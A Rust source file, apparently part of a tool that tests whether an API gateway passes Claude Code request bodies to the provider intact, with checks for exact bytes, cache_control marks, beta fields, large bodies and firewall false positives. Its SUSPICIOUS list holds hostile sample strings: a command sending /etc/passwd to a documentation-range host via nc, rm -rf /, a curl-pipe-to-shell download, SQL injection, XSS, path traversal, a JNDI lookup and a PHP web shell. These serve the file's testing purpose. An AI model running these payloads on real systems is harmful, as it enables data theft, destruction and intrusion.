//! Checks of the request body: byte for byte where possible, and for every field that the client relies on.

use super::bench::{Bench, arrived, is_the_providers, message, no_answer, refusal, refused};
use super::check::{BlackBox, Check};
use super::echo::Script;
use super::finding::{Finding, Outcome};
use super::requests::{UNKNOWN, for_free, plain_body, plain_headers, rich_body};
use serde_json::{Value, json};

const NO_BETAS: &str = "CLAUDE_CODE_DISABLE_EXPERIMENTAL_BETAS=1";
/// As large as in a long session.
const LARGE: usize = 200 * 1000;

pub(super) const CHECKS: &[Check] = &[
    Check {
        id: "body-bytes",
        group: "body",
        title: "the body reaches the provider byte for byte",
        otherwise: "a re-serialized body may lose fields that the gateway does not know, and misses caches keyed on the body",
        black_box: BlackBox::No,
        run: bytes,
    },
    Check {
        id: "system-array",
        group: "body",
        title: "the system array keeps its blocks, their order and the attribution block first",
        otherwise: "the attribution block becomes part of the prompt and of its cache key",
        black_box: BlackBox::No,
        run: |bench| same(bench, "/system", "it").around("CLAUDE_CODE_ATTRIBUTION_HEADER=0"),
    },
    Check {
        id: "cache-control",
        group: "body",
        title: "cache_control stays on system blocks, tools and messages",
        otherwise: "nothing is read from the prompt cache, and every turn costs the full price",
        black_box: BlackBox::No,
        run: cache_control,
    },
    Check {
        id: "thinking",
        group: "body",
        title: "thinking: {\"type\": \"adaptive\"} reaches the provider",
        otherwise: "a 400 about thinking, or no thinking",
        black_box: BlackBox::No,
        run: |bench| same(bench, "/thinking", "it").around("CLAUDE_CODE_DISABLE_ADAPTIVE_THINKING=1"),
    },
    Check {
        id: "beta-fields",
        group: "body",
        title: "context_management, output_config and tool fields reach the provider with their betas",
        otherwise: "the features are lost, or a 400 names a field whose beta header arrived without it",
        black_box: BlackBox::No,
        run: beta_fields,
    },
    Check {
        id: "unknown-fields",
        group: "body",
        title: "unknown fields reach the provider",
        otherwise: "a new feature breaks with the release that adds its field",
        black_box: BlackBox::Free,
        run: unknown,
    },
    Check {
        id: "large-body",
        group: "body",
        title: "a body of 200 kB passes",
        otherwise: "long sessions fail, with 413 or no response",
        black_box: BlackBox::Free,
        run: large,
    },
    Check {
        id: "waf",
        group: "body",
        title: "bodies that contain shell, SQL, HTML and paths pass",
        otherwise: "prompts that contain code fail with 403, seemingly at random",
        black_box: BlackBox::Free,
        run: waf,
    },
];

fn bytes(bench: &Bench) -> Finding {
    let sent = plain_body(bench.model());
    let (tried, arrived) = bench.through_echo(Script::Whole, bench.messages(plain_headers(), sent.clone()));
    let Some(request) = arrived.first() else {
        return match tried {
            Ok(heard) => Finding::broken(refusal(&heard)),
            Err(failure) => no_answer(&failure, bench),
        };
    };
    if let Some(encoding) = request.header("content-encoding") {
        return Finding::degraded(format!("it arrived compressed: {encoding}"));
    }
    if request.body == sent {
        return Finding::works(format!("{} bytes", sent.len()));
    }
    let (sent, got) = (serde_json::from_slice::<Value>(&sent).unwrap_or_default(), request.json());
    if sent == got {
        return Finding::degraded("re-serialized: same values, different bytes");
    }
    Finding::degraded(format!("re-serialized: {}", difference(&sent, &got)))
}

/// The first difference between two objects, in words.
fn difference(sent: &Value, got: &Value) -> String {
    let (Some(sent), Some(got)) = (sent.as_object(), got.as_object()) else {
        return "no object arrived".to_owned();
    };
    let names = |from: &serde_json::Map<String, Value>, other: &serde_json::Map<String, Value>| {
        let names: Vec<_> = from.keys().filter(|key| !other.contains_key(*key)).cloned().collect();
        names.join(", ")
    };
    let (lost, added) = (names(sent, got), names(got, sent));
    let changed: Vec<_> =
        sent.iter().filter(|(k, v)| got.get(*k).is_some_and(|g| g != *v)).map(|(k, _)| k.as_str()).collect();
    let parts = [("without ", lost), ("with ", added), ("changed ", changed.join(", "))];
    let parts =
        parts.iter().filter(|(_, names)| !names.is_empty()).map(|(how, names)| format!("{how}{names}"));
    parts.collect::<Vec<_>>().join("; ")
}

/// Compares the rich body as it was sent and as it arrived.
fn rich(bench: &Bench, judge: impl FnOnce(&Value, &Value) -> Finding) -> Finding {
    match arrived(bench) {
        Ok(request) => {
            let sent = serde_json::from_slice(&rich_body(bench.model())).unwrap_or_default();
            judge(&sent, &request.json())
        }
        Err(finding) => finding,
    }
}

/// A part of the rich body, called `name` in the evidence, must arrive unchanged.
fn same(bench: &Bench, pointer: &str, name: &str) -> Finding {
    rich(bench, |sent, got| match got.pointer(pointer) {
        Some(got) if Some(got) == sent.pointer(pointer) => Finding::works("unchanged"),
        Some(got) => {
            let got: String = got.to_string().chars().take(160).collect();
            Finding::broken(format!("{name} arrived as {got}"))
        }
        None => Finding::broken(format!("{name} did not arrive")),
    })
}

/// The places where something else arrived, or nothing.
fn lost(places: &[&str], sent: &Value, got: &Value) -> Finding {
    let lost: Vec<_> =
        places.iter().filter(|place| got.pointer(place) != sent.pointer(place)).copied().collect();
    if lost.is_empty() {
        return Finding::works(format!("{} fields", places.len()));
    }
    Finding::broken(format!("lost or changed: {}", lost.join(", ")))
}

fn cache_control(bench: &Bench) -> Finding {
    let places = ["/system/1/cache_control", "/tools/0/cache_control", "/messages/0/content/1/cache_control"];
    // regardless of position: another check covers the order
    let marks = |value: &Value| {
        let mut marks = Vec::new();
        collect(value, &mut marks);
        marks.sort();
        marks
    };
    rich(bench, |sent, got| {
        let wanted = marks(sent);
        if wanted == marks(got) {
            return Finding::works(format!("{} marks", wanted.len()));
        }
        lost(&places, sent, got)
    })
}

fn collect(value: &Value, into: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            into.extend(map.get("cache_control").map(Value::to_string));
            map.values().for_each(|value| collect(value, into));
        }
        Value::Array(list) => list.iter().for_each(|value| collect(value, into)),
        _ => {}
    }
}

fn beta_fields(bench: &Bench) -> Finding {
    let places = ["/context_management", "/output_config", "/tools/0/defer_loading"];
    rich(bench, |sent, got| lost(&places, sent, got).around(NO_BETAS))
}

fn unknown(bench: &Bench) -> Finding {
    if bench.echo().is_some() {
        return same(bench, &format!("/{UNKNOWN}"), UNKNOWN);
    }
    let mut body = for_free("hi");
    body[UNKNOWN] = json!(true);
    let tried = bench.send(&bench.messages(plain_headers(), body.to_string().into_bytes()));
    refused(&tried, bench, |said| {
        if said.contains(UNKNOWN) {
            Finding::works(format!("the provider: {said}"))
        } else {
            Finding::broken(format!("the provider did not reject {UNKNOWN}, so it did not arrive: {said}"))
        }
    })
}

/// A body that must pass: it reaches the echo unchanged, or the provider refuses its model.
fn passes(bench: &Bench, text: &str) -> Finding {
    let mut body = for_free(text);
    if bench.echo().is_some() {
        body["model"] = json!(bench.model());
    }
    let ask = bench.messages(plain_headers(), body.to_string().into_bytes());
    let (tried, arrived) = bench.through_echo(Script::Whole, ask);
    let heard = match tried {
        Ok(heard) => heard,
        Err(failure) => return no_answer(&failure, bench),
    };
    if bench.echo().is_none() {
        let by_provider = is_the_providers(&heard) && heard.status != 413;
        return if by_provider { Finding::works(message(&heard)) } else { Finding::broken(refusal(&heard)) };
    }
    let Some(request) = arrived.first() else { return Finding::broken(refusal(&heard)) };
    if request.json().to_string().contains(&json!(text).to_string().trim_matches('"').to_owned()) {
        Finding::works(format!("{} bytes", request.body.len()))
    } else {
        Finding::broken("it arrived with changed text")
    }
}

fn large(bench: &Bench) -> Finding {
    passes(bench, &"0123456789 lorem ipsum ".repeat(LARGE / 23))
}

/// Text that firewalls mistake for attacks and that prompts often contain.
const SUSPICIOUS: &[(&str, &str)] = &[
    ("shell", "; cat /etc/passwd | nc 192.0.2.1 4444 && rm -rf / $(curl -s http://192.0.2.1/x.sh | sh)"),
    ("SQL", "' OR '1'='1'; DROP TABLE users; -- UNION SELECT password FROM accounts"),
    ("HTML", "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"),
    ("paths", "../../../../etc/shadow %2e%2e%2f..%5c c:\\windows\\win.ini"),
    ("templates", "${jndi:ldap://192.0.2.1/a} {{7*7}} <?php system($_GET['c']); ?>"),
];

fn waf(bench: &Bench) -> Finding {
    for (what, text) in SUSPICIOUS {
        let finding = passes(bench, text);
        if finding.outcome != Outcome::Works {
            return Finding::broken(format!("{what}: {}", finding.evidence));
        }
    }
    let kinds: Vec<_> = SUSPICIOUS.iter().map(|(what, _)| *what).collect();
    Finding::works(kinds.join(", "))
}
